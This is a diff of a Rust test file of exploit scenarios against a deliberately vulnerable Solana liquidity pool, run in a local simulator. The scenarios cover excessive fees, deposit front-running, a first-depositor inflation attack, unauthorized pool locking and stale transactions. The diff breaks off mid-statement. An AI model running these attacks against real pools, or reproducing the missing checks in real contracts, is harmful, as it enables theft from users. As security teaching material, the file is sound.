@@ -17,78 +17,111 @@
 mod utils;
 
 use utils::*;
+use litesvm::{types::TransactionResult, LiteSVM};
 use litesvm_token::{CreateAssociatedTokenAccount, CreateMint, MintTo, get_spl_account};
 use solana_sdk::{
     clock::Clock,
     instruction::Instruction,
     native_token::LAMPORTS_PER_SOL,
-    signature::Signer,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
     transaction::Transaction,
 };
 
-#[test]
-fn test_exploit_excessive_fees() {
-    // EXPLOIT: V001 - No fee validation
-    // Demonstrates: Pool creator can set any fee up to u16::MAX (655.35%)
-    println!("\n================================================================================");
-    println!("EXPLOIT TEST: Excessive Fees (V001)");
-    println!("================================================================================");
-    println!("This test demonstrates how missing fee validation allows pool creators");
-    println!("to set exorbitant fees that steal from swappers.");
-    println!();
-
-    let mut svm = setup_svm();
-    let malicious_authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
-    println!("[Setup] Malicious pool creator funded");
-
-    // Create token mints
-    let mint_a = CreateMint::new(&mut svm, &malicious_authority)
-        .authority(&malicious_authority.pubkey())
-        .decimals(DECIMALS)
-        .send()
-        .expect("Failed to create mint A");
-    let mint_b = CreateMint::new(&mut svm, &malicious_authority)
-        .authority(&malicious_authority.pubkey())
-        .decimals(DECIMALS)
-        .send()
-        .expect("Failed to create mint B");
-    println!("[Setup] Token mints created");
-
-    // EXPLOIT: Set an absurdly high fee (50000 basis points = 500% fee!)
-    let excessive_fee = 50000u16;
-    println!();
-    println!("[EXPLOIT] Initializing pool with {} basis points ({:.2}% fee)",
-             excessive_fee, excessive_fee as f64 / 100.0);
-    println!("[EXPLOIT] In secure version, max fee is 1000 bp (10%)");
-    println!("[EXPLOIT] In vulnerable version, attacker can set up to 65535 bp (655.35%)");
-
-    let init_ix = build_initialize_pool_ix(
-        &malicious_authority.pubkey(),
-        &mint_a,
-        &mint_b,
-        excessive_fee,
-    );
-
-    let tx = Transaction::new_signed_with_payer(
-        &[init_ix],
-        Some(&malicious_authority.pubkey()),
-        &[&malicious_authority],
-        svm.latest_blockhash(),
-    );
-
-    let result = svm.send_transaction(tx);
-
-    println!();
-    println!("[RESULT] Pool initialization: {:?}", if result.is_ok() { "SUCCESS" } else { "FAILED" });
-    println!("[IMPACT] In secure version, this would FAIL with fee validation error");
-    println!("[IMPACT] In vulnerable version, this SUCCEEDS, creating a predatory pool");
-    println!("[IMPACT] Users who swap on this pool will lose massive amounts to fees");
+// Pool creator with two fresh mints and no pool yet
+struct UninitializedPool {
+    svm: LiteSVM,
+    authority: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+}
 
-    assert!(result.is_ok(), "Vulnerable version should allow excessive fees");
+// EXPLOIT: V001 - No fee validation
+// Demonstrates: Pool creator can set any fee up to u16::MAX (655.35%)
+struct ExcessiveFees;
+
+// 50000 basis points = 500% fee
+const EXCESSIVE_FEE: u16 = 50000;
+
+impl ExploitScenario for ExcessiveFees {
+    type State = UninitializedPool;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Excessive Fees - No Fee Validation",
+            severity: Severity::High,
+            lesson: "Always validate fee parameters against reasonable maximums",
+        }
+    }
+
+    fn setup(&self) -> UninitializedPool {
+        println!("This test demonstrates how missing fee validation allows pool creators");
+        println!("to set exorbitant fees that steal from swappers.");
+        println!();
+
+        let mut svm = setup_svm();
+        let malicious_authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        println!("[Setup] Malicious pool creator funded");
+
+        // Create token mints
+        let mint_a = CreateMint::new(&mut svm, &malicious_authority)
+            .authority(&malicious_authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .expect("Failed to create mint A");
+        let mint_b = CreateMint::new(&mut svm, &malicious_authority)
+            .authority(&malicious_authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .expect("Failed to create mint B");
+        println!("[Setup] Token mints created");
+
+        UninitializedPool { svm, authority: malicious_authority, mint_a, mint_b }
+    }
+
+    fn exploit(&self, state: &mut UninitializedPool) -> TransactionResult {
+        // EXPLOIT: Set an absurdly high fee
+        println!();
+        println!("[EXPLOIT] Initializing pool with {} basis points ({:.2}% fee)",
+                 EXCESSIVE_FEE, EXCESSIVE_FEE as f64 / 100.0);
+        println!("[EXPLOIT] In secure version, max fee is 1000 bp (10%)");
+        println!("[EXPLOIT] In vulnerable version, attacker can set up to 65535 bp (655.35%)");
+
+        let init_ix = build_initialize_pool_ix(
+            &state.authority.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            EXCESSIVE_FEE,
+        );
+
+        let tx = Transaction::new_signed_with_payer(
+            &[init_ix],
+            Some(&state.authority.pubkey()),
+            &[&state.authority],
+            state.svm.latest_blockhash(),
+        );
+
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut UninitializedPool) -> u64 {
+        assert_eq!(get_pool_fee_basis_points(&state.svm, &state.mint_a, &state.mint_b, EXCESSIVE_FEE), EXCESSIVE_FEE);
+
+        println!();
+        println!("[RESULT] Pool initialization: SUCCESS");
+        println!("[IMPACT] In secure version, this would FAIL with fee validation error");
+        println!("[IMPACT] In vulnerable version, this SUCCEEDS, creating a predatory pool");
+        println!("[IMPACT] Users who swap on this pool will lose massive amounts to fees");
+
+        // No liquidity yet: the loss lands on whoever swaps later
+        0
+    }
+}
 
-    println!();
-    println!("[LESSON] Always validate fee parameters against reasonable maximums");
-    println!("================================================================================\n");
+#[test]
+fn test_exploit_excessive_fees() {
+    run_exploit(&ExcessiveFees);
 }
 
 #[test]
@@ -155,592 +188,2746 @@ fn test_exploit_identical_mints() {
     println!("================================================================================\n");
 }
 
-#[test]
-fn test_exploit_deposit_front_running() {
-    // EXPLOIT: V002 - No slippage protection on deposits
-    // Demonstrates: Front-runner manipulates pool ratio before victim's deposit
-    println!("\n================================================================================");
-    println!("EXPLOIT TEST: Deposit Front-Running (V002 - No Slippage Protection)");
-    println!("================================================================================");
-    println!("This test demonstrates how missing slippage protection allows front-running.");
-    println!("Attacker manipulates pool ratio, victim deposits at terrible ratio.");
-    println!();
-
-    let mut svm = setup_svm();
-    let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
-    let victim = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
-    let attacker = create_funded_account(&mut svm, 100 * LAMPORTS_PER_SOL);
-    println!("[Setup] Authority, victim, and attacker funded");
-
-    // Create mints and initialize pool
-    let mint_a = CreateMint::new(&mut svm, &authority)
-        .authority(&authority.pubkey())
-        .decimals(DECIMALS)
-        .send()
-        .unwrap();
-    let mint_b = CreateMint::new(&mut svm, &authority)
-        .authority(&authority.pubkey())
-        .decimals(DECIMALS)
-        .send()
-        .unwrap();
+struct FrontRunState {
+    svm: LiteSVM,
+    victim: Keypair,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    expiration: i64,
+}
 
-    let init_ix = build_initialize_pool_ix(&authority.pubkey(), &mint_a, &mint_b, 30);
-    let tx = Transaction::new_signed_with_payer(
-        &[init_ix],
-        Some(&authority.pubkey()),
-        &[&authority],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-    println!("[Setup] Pool initialized with 1:1 ratio");
+// EXPLOIT: V002 - No slippage protection on deposits
+// Demonstrates: Front-runner manipulates pool ratio before victim's deposit
+struct DepositFrontRunning;
+
+const FRONT_RUN_VICTIM_AMOUNT: u64 = 10_000_000_000; // 10 tokens
+const FRONT_RUN_ATTACKER_AMOUNT: u64 = 50_000_000_000; // 50 tokens
+
+impl ExploitScenario for DepositFrontRunning {
+    type State = FrontRunState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Deposit Front-Running - No Slippage Protection",
+            severity: Severity::High,
+            lesson: "Always enforce slippage protection on deposits: validate max_amount_a and max_amount_b",
+        }
+    }
+
+    fn setup(&self) -> FrontRunState {
+        println!("This test demonstrates how missing slippage protection allows front-running.");
+        println!("Attacker manipulates pool ratio, victim deposits at terrible ratio.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let victim = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 100 * LAMPORTS_PER_SOL);
+        println!("[Setup] Authority, victim, and attacker funded");
+
+        // Create mints and initialize pool
+        let mint_a = CreateMint::new(&mut svm, &authority)
+            .authority(&authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+        let mint_b = CreateMint::new(&mut svm, &authority)
+            .authority(&authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+
+        let init_ix = build_initialize_pool_ix(&authority.pubkey(), &mint_a, &mint_b, 30);
+        let tx = Transaction::new_signed_with_payer(
+            &[init_ix],
+            Some(&authority.pubkey()),
+            &[&authority],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+        println!("[Setup] Pool initialized with 1:1 ratio");
+
+        // Add initial liquidity (authority)
+        let auth_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_a)
+            .owner(&authority.pubkey())
+            .send()
+            .unwrap();
+        let auth_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_b)
+            .owner(&authority.pubkey())
+            .send()
+            .unwrap();
+
+        let initial_liquidity = 100_000_000_000; // 100 tokens each
+        MintTo::new(&mut svm, &authority, &mint_a, &auth_ata_a, initial_liquidity)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_b, &auth_ata_b, initial_liquidity)
+            .owner(&authority)
+            .send()
+            .unwrap();
+
+        let clock = svm.get_sysvar::<Clock>();
+        let expiration = clock.unix_timestamp + 60;
+
+        let deposit_ix = build_deposit_liquidity_ix(
+            &authority.pubkey(),
+            &mint_a,
+            &mint_b,
+            initial_liquidity,
+            initial_liquidity,
+            initial_liquidity,
+            initial_liquidity,
+            expiration,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[deposit_ix],
+            Some(&authority.pubkey()),
+            &[&authority],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+        println!("[Setup] Initial liquidity added: 100 A + 100 B");
+
+        // Setup victim with tokens
+        let victim_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &victim, &mint_a)
+            .owner(&victim.pubkey())
+            .send()
+            .unwrap();
+        let victim_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &victim, &mint_b)
+            .owner(&victim.pubkey())
+            .send()
+            .unwrap();
+
+        MintTo::new(&mut svm, &authority, &mint_a, &victim_ata_a, FRONT_RUN_VICTIM_AMOUNT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_b, &victim_ata_b, FRONT_RUN_VICTIM_AMOUNT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        println!("[Setup] Victim has 10 A + 10 B tokens");
+
+        // Setup attacker with massive funds for swap
+        let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_a, &attacker_ata_a, FRONT_RUN_ATTACKER_AMOUNT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        println!("[Setup] Attacker has 50 A tokens for manipulation");
+
+        println!();
+        println!("[SCENARIO] Victim wants to deposit 10 A + 10 B");
+        println!("[SCENARIO] Victim sets max_amount_a=10, max_amount_b=10 (expects 1:1 ratio)");
+        println!();
+
+        FrontRunState { svm, victim, attacker, mint_a, mint_b, expiration }
+    }
+
+    fn exploit(&self, state: &mut FrontRunState) -> TransactionResult {
+        // EXPLOIT STEP 1: Attacker front-runs by swapping massive amount
+        println!("[EXPLOIT STEP 1] Attacker sees victim's pending transaction in mempool");
+        println!("[EXPLOIT STEP 1] Attacker front-runs with massive 50 A → B swap");
+        println!("[EXPLOIT STEP 1] This manipulates pool ratio from 1:1 to heavily skewed");
+
+        let swap_ix = build_swap_tokens_ix(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true, // A for B
+            FRONT_RUN_ATTACKER_AMOUNT,
+            1,
+            state.expiration,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[swap_ix],
+            Some(&state.attacker.pubkey()),
+            &[&state.attacker],
+            state.svm.latest_blockhash(),
+        );
+        state.svm.send_transaction(tx).unwrap();
+        println!("[EXPLOIT STEP 1] Front-run swap executed - pool ratio now heavily manipulated");
+
+        // EXPLOIT STEP 2: Victim's deposit executes at terrible ratio
+        println!();
+        println!("[EXPLOIT STEP 2] Victim's deposit transaction executes");
+        println!("[EXPLOIT STEP 2] NO SLIPPAGE CHECK in vulnerable version");
+        println!("[EXPLOIT STEP 2] Deposit proceeds at manipulated ratio");
+
+        let deposit_ix = build_deposit_liquidity_ix(
+            &state.victim.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            FRONT_RUN_VICTIM_AMOUNT,
+            FRONT_RUN_VICTIM_AMOUNT,
+            FRONT_RUN_VICTIM_AMOUNT, // max_amount_a - should fail if checked
+            FRONT_RUN_VICTIM_AMOUNT, // max_amount_b - should fail if checked
+            state.expiration,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[deposit_ix],
+            Some(&state.victim.pubkey()),
+            &[&state.victim],
+            state.svm.latest_blockhash(),
+        );
+
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, _state: &mut FrontRunState) -> u64 {
+        println!();
+        println!("[RESULT] Victim deposit: SUCCESS");
+        println!("[IMPACT] In secure version, this would FAIL due to slippage protection");
+        println!("[IMPACT] In vulnerable version, this SUCCEEDS at terrible ratio");
+        println!("[IMPACT] Victim deposits tokens but receives far fewer LP tokens than expected");
+
+        // The victim's whole token A deposit went in at the manipulated ratio
+        FRONT_RUN_VICTIM_AMOUNT
+    }
+}
 
-    // Add initial liquidity (authority)
-    let auth_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_a)
-        .owner(&authority.pubkey())
-        .send()
-        .unwrap();
-    let auth_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_b)
-        .owner(&authority.pubkey())
-        .send()
-        .unwrap();
+#[test]
+fn test_exploit_deposit_front_running() {
+    run_exploit(&DepositFrontRunning);
+}
 
-    let initial_liquidity = 100_000_000_000; // 100 tokens each
-    MintTo::new(&mut svm, &authority, &mint_a, &auth_ata_a, initial_liquidity)
-        .owner(&authority)
-        .send()
-        .unwrap();
-    MintTo::new(&mut svm, &authority, &mint_b, &auth_ata_b, initial_liquidity)
-        .owner(&authority)
-        .send()
-        .unwrap();
+struct InflationState {
+    svm: LiteSVM,
+    authority: Keypair,
+    attacker: Keypair,
+    victim: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    attacker_ata_a: Pubkey,
+    attacker_ata_b: Pubkey,
+    expiration: i64,
+}
 
-    let clock = svm.get_sysvar::<Clock>();
-    let expiration = clock.unix_timestamp + 60;
+// EXPLOIT: V005 - MINIMUM_LIQUIDITY = 1 (enables inflation attacks)
+// Demonstrates: First depositor can inflate LP token value to steal from later depositors
+struct InflationAttack;
+
+const INFLATION_TINY_AMOUNT: u64 = 1000; // Minimal amount
+const INFLATION_DONATION: u64 = 1_000_000_000; // Donate 1 billion units
+const INFLATION_VICTIM_AMOUNT: u64 = 100_000_000; // 100M units
+
+impl ExploitScenario for InflationAttack {
+    type State = InflationState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V005",
+            title: "Inflation Attack - MINIMUM_LIQUIDITY Too Low",
+            severity: Severity::Critical,
+            lesson: "MINIMUM_LIQUIDITY must be high enough (e.g., 1000) to make inflating the first deposit economically infeasible",
+        }
+    }
+
+    fn setup(&self) -> InflationState {
+        println!("This test demonstrates classic DeFi inflation attack on first deposit.");
+        println!("Attacker creates pool, donates tokens to inflate LP value, victim gets 0 LP.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 100 * LAMPORTS_PER_SOL);
+        let victim = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        println!("[Setup] Authority, attacker, and victim funded");
+
+        // Create mints
+        let mint_a = CreateMint::new(&mut svm, &authority)
+            .authority(&authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+        let mint_b = CreateMint::new(&mut svm, &authority)
+            .authority(&authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+        println!("[Setup] Token mints created");
+
+        // Initialize pool
+        let init_ix = build_initialize_pool_ix(&attacker.pubkey(), &mint_a, &mint_b, 30);
+        let tx = Transaction::new_signed_with_payer(
+            &[init_ix],
+            Some(&attacker.pubkey()),
+            &[&attacker],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+        println!("[Setup] Pool initialized by attacker");
+
+        let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        let attacker_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_b)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+
+        MintTo::new(&mut svm, &authority, &mint_a, &attacker_ata_a, INFLATION_TINY_AMOUNT * 2 + INFLATION_DONATION)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_b, &attacker_ata_b, INFLATION_TINY_AMOUNT * 2 + INFLATION_DONATION)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        println!("[Setup] Attacker funded for a tiny first deposit plus a large donation");
+
+        let clock = svm.get_sysvar::<Clock>();
+        let expiration = clock.unix_timestamp + 60;
+
+        InflationState {
+            svm,
+            authority,
+            attacker,
+            victim,
+            mint_a,
+            mint_b,
+            attacker_ata_a,
+            attacker_ata_b,
+            expiration,
+        }
+    }
+
+    fn exploit(&self, state: &mut InflationState) -> TransactionResult {
+        // EXPLOIT STEP 1: Attacker deposits minimal amounts
+        println!();
+        println!("[EXPLOIT STEP 1] Attacker performs first deposit with tiny amounts");
+
+        let deposit_ix = build_deposit_liquidity_ix(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            INFLATION_TINY_AMOUNT,
+            INFLATION_TINY_AMOUNT,
+            INFLATION_TINY_AMOUNT,
+            INFLATION_TINY_AMOUNT,
+            state.expiration,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[deposit_ix],
+            Some(&state.attacker.pubkey()),
+            &[&state.attacker],
+            state.svm.latest_blockhash(),
+        );
+        state.svm.send_transaction(tx).unwrap();
+        println!("[EXPLOIT STEP 1] First deposit complete: {} A + {} B", INFLATION_TINY_AMOUNT, INFLATION_TINY_AMOUNT);
+        println!("[EXPLOIT STEP 1] With MINIMUM_LIQUIDITY=1, attacker gets sqrt(1000*1000)-1 LP tokens");
+
+        // EXPLOIT STEP 2: Attacker donates massive amounts directly to vaults
+        println!();
+        println!("[EXPLOIT STEP 2] Attacker donates MASSIVE amounts directly to vaults");
+        println!("[EXPLOIT STEP 2] This inflates the LP token value without minting new LP");
+
+        let vault_a = derive_vault(&state.mint_a, &state.mint_b, &state.mint_a);
+        let vault_b = derive_vault(&state.mint_a, &state.mint_b, &state.mint_b);
+
+        // Transfer donation to both vaults
+        let transfer_a_ix = spl_token::instruction::transfer(
+            &spl_token::ID,
+            &state.attacker_ata_a,
+            &vault_a,
+            &state.attacker.pubkey(),
+            &[],
+            INFLATION_DONATION,
+        ).unwrap();
+        let transfer_b_ix = spl_token::instruction::transfer(
+            &spl_token::ID,
+            &state.attacker_ata_b,
+            &vault_b,
+            &state.attacker.pubkey(),
+            &[],
+            INFLATION_DONATION,
+        ).unwrap();
+
+        let tx = Transaction::new_signed_with_payer(
+            &[transfer_a_ix, transfer_b_ix],
+            Some(&state.attacker.pubkey()),
+            &[&state.attacker],
+            state.svm.latest_blockhash(),
+        );
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut InflationState) -> u64 {
+        let svm = &mut state.svm;
+        println!("[EXPLOIT STEP 2] Donated {} tokens to each vault", INFLATION_DONATION);
+        println!("[EXPLOIT STEP 2] Pool now has ~1B A + ~1B B, but LP supply is still tiny");
+        println!("[EXPLOIT STEP 2] Each LP token now represents huge amount of underlying");
+
+        // EXPLOIT STEP 3: Victim tries to deposit reasonable amount
+        println!();
+        println!("[EXPLOIT STEP 3] Victim deposits reasonable amount");
+
+        let victim_ata_a = CreateAssociatedTokenAccount::new(svm, &state.victim, &state.mint_a)
+            .owner(&state.victim.pubkey())
+            .send()
+            .unwrap();
+        let victim_ata_b = CreateAssociatedTokenAccount::new(svm, &state.victim, &state.mint_b)
+            .owner(&state.victim.pubkey())
+            .send()
+            .unwrap();
+
+        MintTo::new(svm, &state.authority, &state.mint_a, &victim_ata_a, INFLATION_VICTIM_AMOUNT)
+            .owner(&state.authority)
+            .send()
+            .unwrap();
+        MintTo::new(svm, &state.authority, &state.mint_b, &victim_ata_b, INFLATION_VICTIM_AMOUNT)
+            .owner(&state.authority)
+            .send()
+            .unwrap();
+
+        let deposit_ix = build_deposit_liquidity_ix(
+            &state.victim.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            INFLATION_VICTIM_AMOUNT,
+            INFLATION_VICTIM_AMOUNT,
+            INFLATION_VICTIM_AMOUNT,
+            INFLATION_VICTIM_AMOUNT,
+            state.expiration,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[deposit_ix],
+            Some(&state.victim.pubkey()),
+            &[&state.victim],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+
+        println!("[EXPLOIT STEP 3] Victim deposited {} A + {} B", INFLATION_VICTIM_AMOUNT, INFLATION_VICTIM_AMOUNT);
+
+        // Check victim's LP tokens
+        let (pool_config, _) = derive_pool_config_pda(&state.mint_a, &state.mint_b, POOL_FEE_TIER);
+        let (lp_mint, _) = derive_lp_mint_pda(&pool_config);
+        let victim_lp_ata = spl_associated_token_account::get_associated_token_address(&state.victim.pubkey(), &lp_mint);
+        let victim_lp_account: spl_token::state::Account = get_spl_account(svm, &victim_lp_ata)
+            .expect("LP account should exist");
+
+        println!();
+        println!("[RESULT] Victim's LP token balance: {}", victim_lp_account.amount);
+        println!("[IMPACT] Due to rounding in proportional calculation, victim may receive 0 or very few LP tokens");
+        println!("[IMPACT] Victim deposited {} tokens but LP value is so inflated they get almost nothing", INFLATION_VICTIM_AMOUNT);
+        println!("[IMPACT] Attacker can now withdraw all liquidity, stealing victim's deposit");
+
+        assert!(
+            victim_lp_account.amount < INFLATION_VICTIM_AMOUNT,
+            "Victim should receive far fewer LP tokens than a 1:1 first deposit would give"
+        );
+
+        INFLATION_VICTIM_AMOUNT
+    }
+}
 
-    let deposit_ix = build_deposit_liquidity_ix(
-        &authority.pubkey(),
-        &mint_a,
-        &mint_b,
-        initial_liquidity,
-        initial_liquidity,
-        initial_liquidity,
-        initial_liquidity,
-        expiration,
-    );
-    let tx = Transaction::new_signed_with_payer(
-        &[deposit_ix],
-        Some(&authority.pubkey()),
-        &[&authority],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-    println!("[Setup] Initial liquidity added: 100 A + 100 B");
+#[test]
+fn test_exploit_inflation_attack() {
+    run_exploit(&InflationAttack);
+}
 
-    // Setup victim with tokens
-    let victim_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &victim, &mint_a)
-        .owner(&victim.pubkey())
-        .send()
-        .unwrap();
-    let victim_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &victim, &mint_b)
-        .owner(&victim.pubkey())
-        .send()
-        .unwrap();
+struct LockState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+}
 
-    let victim_amount = 10_000_000_000; // 10 tokens
-    MintTo::new(&mut svm, &authority, &mint_a, &victim_ata_a, victim_amount)
-        .owner(&authority)
-        .send()
-        .unwrap();
-    MintTo::new(&mut svm, &authority, &mint_b, &victim_ata_b, victim_amount)
-        .owner(&authority)
-        .send()
-        .unwrap();
-    println!("[Setup] Victim has 10 A + 10 B tokens");
+// EXPLOIT: V006 - No authorization check on lock_pool
+// Demonstrates: Anyone can lock any pool (DoS attack)
+struct UnauthorizedLock;
+
+impl ExploitScenario for UnauthorizedLock {
+    type State = LockState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V006",
+            title: "Unauthorized Pool Lock - No Authorization Check",
+            severity: Severity::Medium,
+            lesson: "Always check that signer is the pool authority before admin operations",
+        }
+    }
+
+    fn setup(&self) -> LockState {
+        println!("This test demonstrates DoS attack via unauthorized pool locking.");
+        println!();
+
+        let mut svm = setup_svm();
+        let legitimate_authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        println!("[Setup] Legitimate authority and attacker funded");
+
+        // Create pool by legitimate authority
+        let mint_a = CreateMint::new(&mut svm, &legitimate_authority)
+            .authority(&legitimate_authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+        let mint_b = CreateMint::new(&mut svm, &legitimate_authority)
+            .authority(&legitimate_authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+
+        let init_ix = build_initialize_pool_ix(&legitimate_authority.pubkey(), &mint_a, &mint_b, 30);
+        let tx = Transaction::new_signed_with_payer(
+            &[init_ix],
+            Some(&legitimate_authority.pubkey()),
+            &[&legitimate_authority],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+        println!("[Setup] Pool created by legitimate authority");
+
+        LockState { svm, attacker, mint_a, mint_b }
+    }
+
+    fn exploit(&self, state: &mut LockState) -> TransactionResult {
+        println!();
+        println!("[EXPLOIT] Attacker (NOT the pool authority) attempts to lock pool");
+        println!("[EXPLOIT] In secure version, this should FAIL with authorization error");
+        println!("[EXPLOIT] In vulnerable version, ANYONE can lock ANY pool");
+
+        // EXPLOIT: Attacker locks the pool
+        let lock_ix = build_lock_pool_ix(&state.attacker.pubkey(), &state.mint_a, &state.mint_b);
+        let tx = Transaction::new_signed_with_payer(
+            &[lock_ix],
+            Some(&state.attacker.pubkey()),
+            &[&state.attacker],
+            state.svm.latest_blockhash(),
+        );
+
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, _state: &mut LockState) -> u64 {
+        println!();
+        println!("[RESULT] Attacker's lock attempt: SUCCESS");
+        println!("[IMPACT] In secure version, this would FAIL");
+        println!("[IMPACT] In vulnerable version, this SUCCEEDS - attacker locked someone else's pool!");
+        println!("[IMPACT] DoS Attack: Pool is now locked, all operations disabled");
+        println!("[IMPACT] Legitimate users cannot deposit, withdraw, or swap");
+        println!("[IMPACT] Attacker can do this to ALL pools on the protocol");
+
+        // Funds are frozen, not taken
+        0
+    }
+}
 
-    // Setup attacker with massive funds for swap
-    let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
-        .owner(&attacker.pubkey())
-        .send()
-        .unwrap();
-    let attacker_amount = 50_000_000_000; // 50 tokens
-    MintTo::new(&mut svm, &authority, &mint_a, &attacker_ata_a, attacker_amount)
-        .owner(&authority)
-        .send()
-        .unwrap();
-    println!("[Setup] Attacker has 50 A tokens for manipulation");
+#[test]
+fn test_exploit_unauthorized_lock() {
+    run_exploit(&UnauthorizedLock);
+}
 
-    println!();
-    println!("[SCENARIO] Victim wants to deposit 10 A + 10 B");
-    println!("[SCENARIO] Victim sets max_amount_a=10, max_amount_b=10 (expects 1:1 ratio)");
-    println!();
+struct StaleSwapState {
+    svm: LiteSVM,
+    victim: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    stale_expiration: i64,
+}
 
-    // EXPLOIT STEP 1: Attacker front-runs by swapping massive amount
-    println!("[EXPLOIT STEP 1] Attacker sees victim's pending transaction in mempool");
-    println!("[EXPLOIT STEP 1] Attacker front-runs with massive 50 A → B swap");
-    println!("[EXPLOIT STEP 1] This manipulates pool ratio from 1:1 to heavily skewed");
+// EXPLOIT: V003 - No expiration validation
+// Demonstrates: Transaction can execute hours/days after submission at terrible price
+struct StaleTransaction;
+
+const STALE_SWAP_AMOUNT: u64 = 1_000_000_000;
+
+impl ExploitScenario for StaleTransaction {
+    type State = StaleSwapState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V003",
+            title: "Stale Transaction Execution - No Expiration Validation",
+            severity: Severity::High,
+            lesson: "Always validate expiration timestamp against current clock",
+        }
+    }
+
+    fn setup(&self) -> StaleSwapState {
+        println!("This test demonstrates executing a stale transaction after market conditions changed.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let victim = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        println!("[Setup] Authority and victim funded");
+
+        // Setup pool with liquidity
+        let mint_a = CreateMint::new(&mut svm, &authority)
+            .authority(&authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+        let mint_b = CreateMint::new(&mut svm, &authority)
+            .authority(&authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+
+        let init_ix = build_initialize_pool_ix(&authority.pubkey(), &mint_a, &mint_b, 30);
+        let tx = Transaction::new_signed_with_payer(
+            &[init_ix],
+            Some(&authority.pubkey()),
